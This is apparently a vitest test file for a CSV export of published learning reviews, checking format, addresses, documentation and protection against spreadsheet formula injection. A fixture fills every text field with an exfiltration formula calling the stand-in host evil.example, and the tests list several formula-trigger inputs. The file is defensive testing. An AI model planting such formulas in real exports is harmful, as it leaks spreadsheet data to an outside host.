import { readFileSync } from 'node:fs';
import { read as readWorkbook, type WorkSheet } from '@e965/xlsx';
import type { Publication } from '@learning-reviews/content-contract';
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import type { Published } from '../content/published.ts';
import { examplePublished } from '../learning-reviews/example-published.ts';
import { withPublication } from '../machine-readable/with-publication.ts';
import { csvTableNames, csvTables, type CsvTableName } from './csv-tables.ts';

const siteUrl = 'https://reviews.example';
const publicationsCsv = (published: Published) => fileOf('publications', published);
const read = (csv: string): Record<string, string>[] => parse(csv, { bom: true, columns: true });
const readOne = async (changes: Partial<Publication>) =>
  read(await publicationsCsv(withPublication(changes)))[0];

async function fileOf(name: CsvTableName, published: Published): Promise<string> {
  let text = '';
  for await (const part of csvTables[name].file({ published, siteUrl })) text += part;
  return text;
}

/** Opens a file as a spreadsheet program does, which runs formulas where it finds them. */
function sheetOf(csv: string): WorkSheet {
  const { Sheets, SheetNames } = readWorkbook(csv, { type: 'string' });
  return Sheets[SheetNames[0] ?? '']!;
}

function formulasIn(sheet: WorkSheet): string[] {
  return Object.values(sheet).flatMap((cell: { f?: string }) => cell.f ?? []);
}

describe('the CSV of publications', () => {
  test('is read by a CSV parser, one row for each publication, in the order of the list', async () => {
    const rows = read(await publicationsCsv(examplePublished));
    expect(rows.map((row) => row['id'])).toEqual(examplePublished.publications.map((p) => p.id));
  });

  test('begins with a byte order mark, so that Excel reads accents', async () => {
    expect((await publicationsCsv(examplePublished)).startsWith('\uFEFFid,title,')).toBe(true);
  });

  test('gives the absolute address of the page and of every document', async () => {
    const rows = read(await publicationsCsv(examplePublished));
    for (const [index, published] of examplePublished.publications.entries()) {
      expect(rows[index]).toMatchObject({
        address: `${siteUrl}/learning-reviews/publications/${published.slug}`,
        identifier: `${siteUrl}/api/publications/${published.id}`,
        document_addresses: published.documents
          .map((document) => `${siteUrl}/documents/${document.id}/${document.fileName}`)
          .join(' '),
      });
    }
  });

  test('names types and themes, and keeps coarse dates coarse', async () => {
    const types = examplePublished.reviewTypes.slice(0, 2);
    const themes = examplePublished.themes.slice(0, 2);
    const row = await readOne({
      types: types.map((type) => type.id),
      themes: themes.map((theme) => theme.id),
      periodReviewed: { from: { year: 2019, quarter: 3 }, to: { year: 2021, quarter: null } },
      keyLearning: ['Ask first.', 'Ask again.'],
    });
    expect(row).toMatchObject({
      review_types: types.map((type) => type.shortName).join('; '),
      themes: themes.map((theme) => theme.name).join('; '),
      period_from: '2019-Q3',
      period_to: '2021',
      key_learning: 'Ask first.\nAsk again.',
    });
  });

  test('tells what happened, and the questions for a team', async () => {
    const row = await readOne({ whatHappened: 'Two areas.', teamQuestions: ['Who?', '=1'] });
    expect(row).toMatchObject({ what_happened: 'Two areas.', team_questions: "Who?\n'=1" });
  });

  test('names nothing that is not public itself', async () => {
    const row = await readOne({ related: ['draft'], types: ['draft'], themes: ['draft'] });
    expect(Object.values(row ?? {}).join()).not.toContain('draft');
  });

  test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '＝1', ' =1', '\n=1', '\u200B=1'])(
    'keeps %j from being run as a formula, and nothing else of it is changed',
    async (title) => {
      const row = await readOne({ title, summary: title });
      for (const cell of [row?.['title'] ?? '', row?.['summary'] ?? '']) {
        expect(cell).toMatch(/^['\s\u200B]*'\S+$/);
        expect(cell.replaceAll("'", '')).toBe(title);
      }
    },
  );

  test('keeps quotes, commas and line breaks within their cell', async () => {
    const title = 'A "quoted", long;\r\ntitle';
    expect((await readOne({ title }))?.['title']).toBe(title);
  });

  test('holds no formula for a program that takes semicolons for the border of cells', async () => {
    const title = 'See; =1+1;@A1\r\n-2+3\n\t+4;"=5+1";" ""@A2 and 5-1';
    const csv = await publicationsCsv(
      withPublication({ title, keyLearning: ['=1', ' =2', '＝3'] }),
    );
    const cells = csv.split(/[;\t\r\n]/).map((cell) => cell.replace(/^[\s"]+/, ''));
    expect(cells.filter((cell) => /^[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
    expect(csv).toContain('and 5-1');
  });
});

describe.each(csvTableNames)('the file %s', (name) => {
  test('gives a spreadsheet no formula to run, whatever was published', async () => {
    const csv = await fileOf(name, hostilePublished());
    const sheet = sheetOf(csv);
    expect(formulasIn(sheet)).toEqual([]);
    const rows = read(csv);
    expect(rows.length).toBeGreaterThan(0);
    expect(Object.keys(sheet).filter((cell) => /^A\d/.test(cell))).toHaveLength(rows.length + 1);
    expect(JSON.stringify(rows)).toContain("'=HYPERLINK");
  });

  test('says in each row who published it and how it may be used', async () => {
    const { partnershipName, licence } = examplePublished.settings;
    const rows = read(await fileOf(name, examplePublished));
    expect(rows.length).toBeGreaterThan(0);
    const said = rows.map((row) => [row['publisher'], row['licence']]);
    expect(said).toEqual(rows.map(() => [partnershipName, licence]));
  });

  test('is the same, byte for byte, each time', async () => {
    expect(await fileOf(name, examplePublished)).toBe(await fileOf(name, examplePublished));
  });

  test('has each of its columns explained in docs/open-data.md, in the same words', () => {
    const guide = readFileSync(new URL('../../../docs/open-data.md', import.meta.url), 'utf8');
    const section = guide.split(/^### /m).find((part) => part.startsWith(`${name}.csv`)) ?? '';
    const explained = [...section.matchAll(/^\| `([a-z_0-9]+)` +\| (.*?) +\|$/gm)].map(
      ([, column, about]) => [column, about],
    );
    const columns = Object.entries(csvTables[name].columns);
    expect(explained).toEqual(columns.map(([column, { about }]) => [column, about]));
  });
});

test('a spreadsheet would run a formula, were there one', () => {
  expect(formulasIn(sheetOf('a,b\r\n=1+1,2\r\n'))).toEqual(['1+1']);
});

/** The examples, with a formula for every text that an editor may write. */
function hostilePublished(): Published {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
  const kept = /^(?:id|slug|fileName|language|format|kind|purpose|audience|[a-zA-Z]+(?:On|From))$/;
  const text = JSON.stringify(examplePublished, (key, value: unknown) => {
    if (typeof value !== 'string' || kept.test(key)) return value;
    const isId = /^\d+$/.test(key) && !value.includes(' ');
    return isId ? value : formula;
  });
  return JSON.parse(text) as Published;
}
